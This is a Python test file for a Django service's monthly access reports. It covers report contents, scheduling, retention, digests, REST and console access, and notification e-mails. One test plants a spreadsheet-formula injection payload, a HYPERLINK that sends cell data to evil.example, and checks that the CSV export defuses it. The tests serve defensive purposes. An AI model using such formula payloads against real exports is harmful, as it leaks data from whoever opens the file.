"""Access reports: what they say, that each month has one and once, who reads them, and who gets e-mails."""

import csv
import io
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from threading import Barrier
from typing import Any

import pytest
from allauth.mfa.models import Authenticator
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from control_plane.access import actions as keys
from control_plane.access import list_actions
from control_plane.access_reports import actions, content, queries
from control_plane.access_reports.models import AccessReport
from control_plane.access_reports.months import Month, last_whole
from control_plane.audit import actions as audit
from control_plane.audit.actor import Actor, ActorKind
from control_plane.audit.models import AuditEntry
from control_plane.mail.models import Mail
from control_plane.outbox import in_request
from control_plane.topics import actions as topics
from penstock.contract.audit_entries import REFUSED
from penstock.contract.ids import SYSTEM_TENANT
from penstock.contract.invariant import InvariantBroken
from penstock.rules import access as rules
from penstock.rules.access import Acl, Scope
from penstock.rules.access_report import digest
from tenants.closing import actions as closing
from tenants.models import ApiKey, Membership, Person, Session, Tenant
from tenants.roles import Role, Standing
from tenants.sign_in import actions as sign_ins
from tests.control_plane.world import (
    ACTOR,
    PASSWORD,
    House,
    call,
    everything_delivered,
    make_house,
    make_tenant,
)

pytestmark = pytest.mark.django_db

OCTOBER = Month(2026, 10)
FIRST = datetime(2026, 11, 1, 0, 6, tzinfo=UTC)
"""A while after the end of October."""


@pytest.fixture(autouse=True)
def _no_waiting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(in_request.deliver_now, "__defaults__", (0.0,))


@pytest.fixture
def house() -> House:
    made = make_house("acme")
    everything_delivered()
    began(datetime(2026, 1, 1, tzinfo=UTC))
    return made


def began(at: datetime) -> None:
    """As if all that is there had been made then."""
    Tenant.objects.update(created_at=at)


def owner(house: House) -> Person:
    return Membership.objects.get(tenant=house.tenant, role=Role.OWNER).person


def made(house: House, month: Month = OCTOBER, now: datetime | None = None) -> dict[str, Any]:
    row = actions.make(house.tenant, month, now or month.ends_at + timedelta(minutes=6))
    assert row is not None
    return queries.document(row)


def get(house: House, path: str, standing: Standing = Standing.OWNER) -> Any:
    return call("GET", f"/v1/access/{path}", token=house.credentials[standing], tenant=house.tenant)


# -- what it says ---------------------------------------------------------------------------------------


def test_a_report_says_who_is_there_and_what_they_may_do(house: House) -> None:
    person = owner(house)
    Authenticator.objects.create(user=person, type=Authenticator.Type.TOTP, data={})
    account = list_actions.create_account(ACTOR, house.tenant, name="billing")
    principal = f"service_account:{account.public_id}"
    scope = Scope(resource="topic", name="orders", literal=True, operations=("produce",))
    key, _ = keys.create_key(ACTOR, house.tenant, name="app", account=account, scopes=[scope])
    _, group = list_actions.create_group(ACTOR, house.tenant, name="team", members=[principal])
    wanted = rules.preset(
        "consumer", principal=principal, resource_name="orders", literal=True, group_prefix="b"
    )
    list_actions.add_acls(ACTOR, house.tenant, wanted)
    report = queries.present(house.tenant)
    of_owner = next(one for one in report["people"] if one["email"] == person.email)
    assert of_owner["role"] == "owner" and of_owner["second_factors"] == ["totp"]
    of_key = next(one for one in report["keys"] if one["id"] == key.public_id)
    assert of_key["principal"] == principal
    assert [one["on"] for one in of_key["scopes"]] == ["topic orders"]
    assert [one["members"] for one in report["groups"]] == [[principal]]
    assert group.public_id == report["groups"][0]["id"]
    assert [one["on"] for one in report["entries"]] == ["topic orders", "group b*"]
    assert report["entries"][0]["text"].endswith("consume, describe on topic orders")
    assert [(one["preset"], one["on"]) for one in report["presets"]] == [("consumer", "topic orders")]
    assert report["default"] == "allow" and report["month"] is None and report["left_out"] == {}


def test_a_report_says_what_changed_since_the_one_before_also_when_months_have_none(house: House) -> None:
    account = list_actions.create_account(ACTOR, house.tenant, name="billing")
    gone, _ = keys.create_key(ACTOR, house.tenant, name="gone", account=account)
    first = made(house, Month(2026, 7))
    assert first["changes"] == [] and first["compared_with"] is None
    Membership.objects.filter(tenant=house.tenant, role=Role.DEVELOPER).update(role=Role.ADMIN)
    ApiKey.objects.filter(pk=gone.pk).update(revoked_at=timezone.now())
    new, _ = keys.create_key(ACTOR, house.tenant, name="new", account=account)
    list_actions.set_default(ACTOR, house.tenant, "deny")
    second = made(house)
    assert second["compared_with"] == "2026-07"
    said = {(one["kind"], one["change"], one["name"]) for one in second["changes"]}
    assert said == {
        ("access_list", "changed", "default"),
        ("person", "changed", "developer@acme.example"),
        ("key", "removed", "gone"),
        ("key", "added", "new"),
    }
    (of_person,) = [one for one in second["changes"] if one["kind"] == "person"]
    assert of_person["fields"] == [{"field": "role", "before": "developer", "after": "admin"}]
    assert new.public_id in {one["id"] for one in second["changes"]}
    # What is used, and nothing else, is no change.
    ApiKey.objects.update(last_used_at=timezone.now())
    assert made(house, Month(2026, 11))["changes"] == []


def test_what_looks_unused_is_named_with_the_reason(house: House) -> None:
    now = timezone.now()
    long_ago, lately = now - timedelta(days=91), now - timedelta(days=89)
    topics.create_topic(ACTOR, house.tenant, name="orders", partitions=1, settings={})
    account = list_actions.create_account(ACTOR, house.tenant, name="keyless")
    list_actions.create_account(ACTOR, house.tenant, name="used")
    used = list_actions.create_account(ACTOR, house.tenant, name="with keys")
    for name, created_at, last_used_at in (
        ("old, used", long_ago, lately),
        ("old, not used", long_ago, None),
        ("used long ago", long_ago, long_ago),
        ("new", lately, None),
    ):
        key, _ = keys.create_key(ACTOR, house.tenant, name=name, account=used)
        ApiKey.objects.filter(pk=key.pk).update(created_at=created_at, last_used_at=last_used_at)
    mine = f"service_account:{used.public_id}"
    for principal, resource, name, literal in (
        (mine, "topic", "orders", True),
        (mine, "topic", "ord", False),
        (mine, "topic", "", False),
        (mine, "topic", "missing", True),
        (mine, "topic", "orders.", False),
        (mine, "group", "unknown to us", True),
        ("everyone", "topic", "orders", True),
        (f"service_account:{account.public_id}", "topic", "orders", True),
    ):
        entry = Acl(effect="allow", principal=principal, resource=resource, name=name, literal=literal)
        list_actions.add_acls(ACTOR, house.tenant, [entry])
    silent = Person.objects.create(email="silent@acme.example")
    Membership.objects.create(tenant=house.tenant, person=silent, role=Role.DEVELOPER)
    absent = Person.objects.create(email="absent@acme.example", last_login=long_ago)
    Membership.objects.create(tenant=house.tenant, person=absent, role=Role.DEVELOPER)
    report = queries.present(house.tenant, now)
    found = {(one["kind"], one["name"]): one["reason"] for one in report["unused"]}
    texts = {one["name"]: one["text"] for one in report["entries"] if one["principal"] == mine}
    assert found == {
        ("key", "old, not used"): "never used in 90 days",
        ("key", "used long ago"): "not used for 90 days",
        ("person", "silent@acme.example"): "never signed in",
        ("person", "absent@acme.example"): "not signed in for 90 days",
        ("service_account", "keyless"): "has no valid key",
        ("service_account", "used"): "has no valid key",
        ("entry", texts["missing"]): "there is no topic missing",
        ("entry", texts["orders."]): "there is no topic whose name begins with orders.",
    }


def test_an_entry_and_a_group_of_who_is_gone_are_named(house: House) -> None:
    account = list_actions.create_account(ACTOR, house.tenant, name="billing")
    principal = f"service_account:{account.public_id}"
    list_actions.create_group(ACTOR, house.tenant, name="team", members=[principal])
    entry = Acl(effect="allow", principal=principal, resource="topic", name="", operations=("consume",))
    list_actions.add_acls(ACTOR, house.tenant, [entry])
    # A release before cleaned up less.
    account.ended_at = timezone.now()
    account.save()
    reasons = {one["kind"]: one["reason"] for one in queries.present(house.tenant)["unused"]}
    assert reasons["entry"] == f"{principal} is gone"
    assert reasons["group"] == f"its member {principal} is gone"


def test_refusals_and_changes_of_the_month_are_counted_by_actor_and_of_no_other_month(house: House) -> None:
    anna = Actor(kind=ActorKind.PERSON, id=owner(house).public_id)
    other = make_tenant("umbrella")
    for tenant, at, times in (
        (house.tenant, OCTOBER.begins_at - timedelta(microseconds=1), 1),
        (house.tenant, OCTOBER.begins_at, 2),
        (house.tenant, OCTOBER.ends_at - timedelta(microseconds=1), 40),
        (house.tenant, OCTOBER.ends_at, 800),
        (other, OCTOBER.begins_at, 16_000),
    ):
        for outcome, action in ((REFUSED, "topic.write"), ("done", "key.create"), ("done", "key.read")):
            row = audit.record(anna, tenant=tenant.public_id, action=action, object_id="", outcome=outcome)
            AuditEntry.objects.filter(pk=row.pk).update(at=at, times=times)
    report = made(house)
    who = {"actor_kind": "person", "actor_id": anna.id, "name": "owner@acme.example"}
    assert report["refusals"] == [who | {"action": "topic.write", "times": 42}]
    assert report["activity"] == [who | {"action": "key.create", "times": 42}]


def test_lists_are_bounded_and_what_is_left_out_is_counted(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(content, "ROWS_MAX", 2)
    monkeypatch.setattr(content, "ACTORS_MAX", 1)
    monkeypatch.setattr(content, "SCOPES_MAX", 1)
    entry = Acl(effect="allow", principal=f"person:{owner(house).public_id}", resource="topic", name="")
    list_actions.add_acls(ACTOR, house.tenant, [entry])
    scopes = [Scope(resource="topic", name=name) for name in ("a", "b", "c")]
    key, _ = keys.create_key(ACTOR, house.tenant, name="scoped", scopes=scopes)
    ApiKey.objects.exclude(pk=key.pk).update(revoked_at=timezone.now())
    for name in ("a", "b"):
        list_actions.create_account(ACTOR, house.tenant, name=name)
        keys.create_key(ACTOR, house.tenant, name=name)
    report = queries.present(house.tenant)
    assert [len(report[name]) for name in ("people", "keys", "activity")] == [2, 2, 1]
    assert report["left_out"]["people"] == 3
    assert report["left_out"]["keys"] == 1
    assert report["left_out"]["scopes"] == 2
    assert report["left_out"]["activity"] > 0
    # Nobody who may just be beyond the bound is said to be gone.
    assert not [one for one in report["unused"] if one["kind"] in ("entry", "service_account")]


def test_a_sign_in_is_known_after_its_session_has_ended(house: House) -> None:
    person = owner(house)
    person.set_password(PASSWORD)
    person.save()
    Session.objects.filter(person=person).delete()
    assert queries.present(house.tenant)["people"][0]["last_sign_in_at"] is None
    sign_ins.sign_in(email=person.email, password=PASSWORD)
    Session.objects.filter(person=person).delete()
    assert queries.present(house.tenant)["people"][0]["last_sign_in_at"] is not None


# -- once a month ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("now", "month"),
    [
        (datetime(2026, 10, 31, 23, 59, 59, tzinfo=UTC), Month(2026, 9)),
        (datetime(2026, 11, 1, 0, 4, tzinfo=UTC), Month(2026, 9)),
        (FIRST, OCTOBER),
        (datetime(2026, 11, 30, 23, 59, tzinfo=UTC), OCTOBER),
        (datetime(2027, 1, 1, 0, 6, tzinfo=UTC), Month(2026, 12)),
        (datetime(2028, 3, 1, 0, 6, tzinfo=UTC), Month(2028, 2)),
    ],
)
def test_a_month_gets_its_report_when_it_is_over_and_settled(
    house: House, now: datetime, month: Month
) -> None:
    assert actions.make_due(now) == 1
    row = AccessReport.objects.get()
    assert row.month == str(month)
    report = queries.document(row)
    assert datetime.fromisoformat(report["from"]) == month.begins_at
    assert datetime.fromisoformat(report["until"]) == month.ends_at


def test_rounds_after_the_first_make_nothing_and_a_longer_absence_is_one_report(house: House) -> None:
    assert [actions.make_due(FIRST + timedelta(minutes=n)) for n in range(3)] == [1, 0, 0]
    later = datetime(2027, 3, 17, 9, 0, tzinfo=UTC)
    assert [actions.make_due(later), actions.make_due(later)] == [1, 0]
    assert list(AccessReport.objects.order_by("month").values_list("month", flat=True)) == [
        "2026-10",
        "2027-02",
    ]
    late = AccessReport.objects.latest("month")
    assert late.made_at == later and queries.document(late)["made_at"].startswith("2027-03-17")


def test_each_open_tenant_that_was_there_gets_one_and_no_other(house: House) -> None:
    for name, fields in (
        ("closed", {"closed_at": FIRST}),
        ("purged", {"closed_at": FIRST, "purged_at": FIRST}),
        ("of-november", {"created_at": OCTOBER.ends_at}),
        ("suspended", {"suspended": True, "created_at": OCTOBER.ends_at - timedelta(seconds=1)}),
    ):
        tenant = make_tenant(name)
        Tenant.objects.filter(pk=tenant.pk).update(**{"created_at": OCTOBER.begins_at, **fields})
    Tenant.objects.create(public_id=SYSTEM_TENANT, name="the service's own")
    Tenant.objects.filter(public_id=SYSTEM_TENANT).update(created_at=OCTOBER.begins_at)
    assert actions.make_due(FIRST) == 2
    names = set(AccessReport.objects.values_list("tenant__name", flat=True))
    assert names == {"acme", "suspended"}


def test_a_tenant_whose_report_fails_keeps_no_other_from_theirs(
    house: House, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    make_tenant("umbrella")
    began(OCTOBER.begins_at)
    right = content.report

    def report(tenant: Tenant, *rest: Any) -> dict[str, Any]:
        if tenant.name == "acme":
            raise RuntimeError("a bug")
        return right(tenant, *rest)

    monkeypatch.setattr(content, "report", report)
    assert actions.make_due(FIRST) == 1
    assert "an access report was not made" in caplog.text
    monkeypatch.setattr(content, "report", right)
    assert actions.make_due(FIRST) == 1


@pytest.mark.django_db(transaction=True)
def test_no_one_waits_while_a_report_is_read(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is locked meanwhile; who closes the tenant in that time is believed."""
    right = content.report
    locked = []

    def report(*args: Any) -> dict[str, Any]:
        locked.append(connection.in_atomic_block)
        return right(*args)

    monkeypatch.setattr(content, "report", report)
    assert actions.make(house.tenant, OCTOBER) is not None
    assert locked == [False]

    def closed_meanwhile(*args: Any) -> dict[str, Any]:
        closing.close(ACTOR, house.tenant)
        return right(*args)

    monkeypatch.setattr(content, "report", closed_meanwhile)
    assert actions.make(house.tenant, OCTOBER.earlier(1)) is None
    assert AccessReport.objects.count() == 1


def test_a_tenant_that_is_closed_before_its_turn_gets_none(house: House) -> None:
    closing.close(ACTOR, house.tenant)
    assert actions.make(house.tenant, OCTOBER) is None
    assert not AccessReport.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_workers_that_come_together_make_one(house: House, caplog: pytest.LogCaptureFixture) -> None:
    something_to_look_at(house)
    together = Barrier(4)

    def worker() -> int:
        try:
            together.wait(60)
            return actions.make_due(FIRST)
        finally:
            connection.close()

    with ThreadPoolExecutor(4) as pool:
        made = [pool.submit(worker) for _ in range(4)]
        assert sum(one.result() for one in made) == 1
    assert AccessReport.objects.count() == 1
    assert "was not made" not in caplog.text
    assert len(mailed()) == 1
    assert AuditEntry.objects.filter(action="access_report.create").count() == 1


def test_a_round_with_nothing_to_do_asks_once_however_many_tenants_there_are(house: House) -> None:
    for n in range(30):
        make_tenant(f"idle-{n}")
    began(OCTOBER.begins_at)
    actions.make_due(FIRST)
    with CaptureQueriesContext(connection) as captured:
        assert actions.make_due(FIRST) == 0
    assert len(captured.captured_queries) == 1


def test_a_report_asks_the_database_as_often_for_many_rows_as_for_few(house: House) -> None:
    def asked(month: Month) -> int:
        with CaptureQueriesContext(connection) as captured:
            made(house, month)
        return len(captured.captured_queries)

    account = list_actions.create_account(ACTOR, house.tenant, name="first")
    keys.create_key(ACTOR, house.tenant, name="first", account=account)
    list_actions.create_group(ACTOR, house.tenant, name="first", members=[])
    list_actions.create_account(ACTOR, house.tenant, name="without a key")
    few = [asked(OCTOBER.earlier(n)) for n in (3, 2)][-1]
    for n in range(20):
        account = list_actions.create_account(ACTOR, house.tenant, name=f"more-{n}")
        keys.create_key(ACTOR, house.tenant, name=f"more {n}", account=account, topic_prefix=f"t{n}")
        list_actions.create_group(ACTOR, house.tenant, name=f"more-{n}", members=[])
    assert asked(OCTOBER) == few <= 28


def test_the_time_of_a_round_is_bounded_and_the_next_goes_on(house: House) -> None:
    assert actions.make_due(FIRST, within_s=0.0) == 0
    assert actions.make_due(FIRST) == 1


# -- stored ---------------------------------------------------------------------------------------------


def test_the_audit_log_names_the_digest_and_an_altered_report_is_not_shown(house: House) -> None:
    report = made(house)
    row = AccessReport.objects.get()
    entry = AuditEntry.objects.get(action="access_report.create")
    assert (entry.object_id, entry.object_name) == (row.public_id, "2026-10")
    assert entry.after["sha256"] == row.sha256 == digest(report)
    AccessReport.objects.update(sha256="0" * 64)
    row.refresh_from_db()
    with pytest.raises(InvariantBroken):
        queries.document(row)


def test_a_report_is_kept_for_25_months_and_goes_with_its_tenant(house: House) -> None:
    for n in range(27):
        made(house, OCTOBER.earlier(26 - n), FIRST)
    assert actions.remove_outlived(FIRST) == 2
    months = AccessReport.objects.order_by("month").values_list("month", flat=True)
    assert (len(months), months[0], months[24]) == (25, "2024-10", "2026-10")
    assert actions.remove_outlived(FIRST) == 0
    closing.close(ACTOR, house.tenant)
    assert actions.remove_outlived(FIRST) == 0
    Tenant.objects.filter(pk=house.tenant.pk).update(purged_at=FIRST)
    assert actions.remove_outlived(FIRST) == 25
    assert AuditEntry.objects.filter(action="access_report.create").count() == 27


# -- over REST ------------------------------------------------------------------------------------------


def test_reports_are_listed_and_read_and_now_is_one_too(house: House) -> None:
    report = made(house)
    (listed,) = get(house, "reports").body["items"]
    assert listed["month"] == "2026-10" and listed["counts"]["people"] == 5
    answer = get(house, "reports/2026-10", Standing.AUDITOR)
    assert answer.body["report"] == report and answer.body["id"] == listed["id"]
    assert answer.headers["ETag"] == f'"{listed["sha256"]}"' == f'"{digest(answer.body["report"])}"'
    now = get(house, "reports/now").body
    assert now["id"] is None and now["report"]["month"] is None
    assert now["report"]["compared_with"] == "2026-10" and now["sha256"] == digest(now["report"])
    assert AccessReport.objects.count() == 1


@pytest.mark.parametrize(
    "month", ["2026-09", "2026-13", "2026-1", "latest", "0000-00", "2026-10-01", "%00", "٢٠٢٦-١٠"]
)
def test_a_month_without_a_report_is_not_found(house: House, month: str) -> None:
    made(house)
    assert get(house, f"reports/{month}").status in (400, 404)
    assert get(house, f"reports/{month}/csv").status in (400, 404)


def test_a_spreadsheet_computes_nothing_of_what_people_named(house: House) -> None:
    hostile = '=HYPERLINK("https://evil.example?"&A1,"orders")'
    keys.create_key(ACTOR, house.tenant, name=hostile)
    list_actions.create_account(ACTOR, house.tenant, name="@SUM(1+1)")
    list_actions.create_group(ACTOR, house.tenant, name="+1", members=[])
    answer = get(house, "reports/now/csv")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="access-now.csv"'
    rows = list(csv.reader(io.StringIO(answer.body.decode())))
    cells = {cell for row in rows for cell in row}
    assert f"'{hostile}" in cells and "'@SUM(1+1)" in cells and "'+1" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {len(row) for row in rows} == {len(rows[0])}


def test_reports_of_another_tenant_are_not_found_and_programs_read_none(house: House) -> None:
    made(house)
    other = make_house("umbrella")
    assert get(other, "reports").body["items"] == []
    assert get(other, "reports/2026-10").status == 404
    answer = call("GET", "/v1/access/reports", token=other.credentials[Standing.OWNER], tenant=house.tenant)
    assert answer.status == 404
    for standing in (Standing.DEVELOPER, Standing.BILLING, Standing.KEY, Standing.BOUND_KEY):
        assert get(house, "reports/now", standing).status == 403, standing


# -- e-mails --------------------------------------------------------------------------------------------


def mailed() -> list[str]:
    found = Mail.objects.filter(kind=actions.MAIL_KIND).order_by("to")
    return list(found.values_list("to", flat=True))


def patch(house: House, body: Any, standing: Standing = Standing.OWNER, **headers: str) -> Any:
    path = "/v1/access/report-mails"
    return call("PATCH", path, body, token=house.credentials[standing], tenant=house.tenant, **headers)


def something_to_look_at(house: House) -> None:
    list_actions.create_account(ACTOR, house.tenant, name="without a key")


def test_owners_get_an_e_mail_with_numbers_when_there_is_something_to_look_at(house: House) -> None:
    made(house, OCTOBER.earlier(1))
    assert mailed() == []
    something_to_look_at(house)
    made(house)
    assert mailed() == ["owner@acme.example"]
    letter = Mail.objects.get(kind=actions.MAIL_KIND)
    assert letter.subject == "Who may do what in acme: 2026-10"
    assert "5 people, 1 service account, 2 keys" in " ".join(letter.text.split())
    assert "/t/acme/access/reports/2026-10" in letter.text
    assert "without a key" not in letter.text


def test_a_person_and_a_tenant_can_choose_none(house: House) -> None:
    second = Person.objects.create(email="second@acme.example", last_login=timezone.now())
    Membership.objects.create(tenant=house.tenant, person=second, role=Role.OWNER)
    something_to_look_at(house)
    answer = patch(house, {"to_me": False})
    assert answer.body == {"to_owners": True, "to_me": False}
    made(house)
    assert mailed() == ["second@acme.example"]
    assert patch(house, {"to_owners": False}, Standing.ADMIN).body == {"to_owners": False, "to_me": True}
    made(house, Month(2026, 11))
    assert mailed() == ["second@acme.example"]
    assert patch(house, {"to_owners": True, "to_me": True}).body == {"to_owners": True, "to_me": True}
    made(house, Month(2026, 12))
    assert len(mailed()) == 3


def test_a_choice_is_audited_once_conditional_and_of_its_tenant_alone(house: House) -> None:
    other = make_house("umbrella")
    tag = get(house, "report-mails").headers["ETag"]
    assert patch(house, {"to_me": False}, If_Match=tag).status == 200
    assert patch(house, {"to_me": True}, If_Match=tag).status == 412
    assert patch(house, {"to_me": False}).status == 200
    assert AuditEntry.objects.filter(action="access_report_mails.set").count() == 1
    assert get(other, "report-mails").body == {"to_owners": True, "to_me": True}
    assert get(house, "report-mails", Standing.OPERATOR).body == {"to_owners": True, "to_me": None}
    assert patch(house, {"to_me": False}, Standing.AUDITOR).status == 403


# -- in the console -------------------------------------------------------------------------------------


def test_the_console_lists_shows_and_hands_out_reports(house: House) -> None:
    hostile = "<b>=1+1</b>"
    list_actions.create_account(ACTOR, house.tenant, name=hostile)
    made(house)
    client = Client()
    client.cookies["penstock"] = house.credentials[Standing.OWNER]
    page = "/t/acme/access/reports"
    assert "2026-10" in client.get(page).content.decode()
    shown = client.get(f"{page}/2026-10").content.decode()
    assert "&lt;b&gt;=1+1" in shown and hostile not in shown and "has no valid key" in shown
    file = client.get(f"{page}/2026-10/json")
    assert file.headers["Content-Disposition"] == 'attachment; filename="access-2026-10.json"'
    assert digest(file.json()) == AccessReport.objects.get().sha256
    assert client.get(f"{page}/2026-10/xlsx").status_code == 404
    assert client.get(f"{page}/2026-11").status_code == 404
    assert client.post("/t/acme/access/report-mails", {"who": "to_me", "wants": "no"}).status_code == 302
    assert queries.mails(house.tenant, owner(house)).to_me is False
    client.post("/t/acme/access/report-mails", {"who": "anna", "wants": "no"})
    assert "Nothing was changed." in client.get(page).content.decode()


def test_the_last_whole_month_of_a_moment_is_in_utc() -> None:
    assert last_whole(datetime.fromisoformat("2026-11-01T01:00:00+02:00")) == Month(2026, 9)
    assert last_whole(datetime.fromisoformat("2026-10-31T23:00:00-02:00")) == OCTOBER
